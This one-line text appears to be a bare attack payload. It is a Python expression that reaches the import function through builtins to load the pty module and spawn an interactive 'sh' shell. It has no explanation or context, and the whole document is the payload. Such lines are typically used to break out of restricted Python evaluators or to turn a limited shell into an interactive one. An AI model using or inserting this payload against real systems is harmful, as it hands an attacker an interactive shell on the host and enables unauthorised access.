builtins.__import__("pty").spawn("sh")
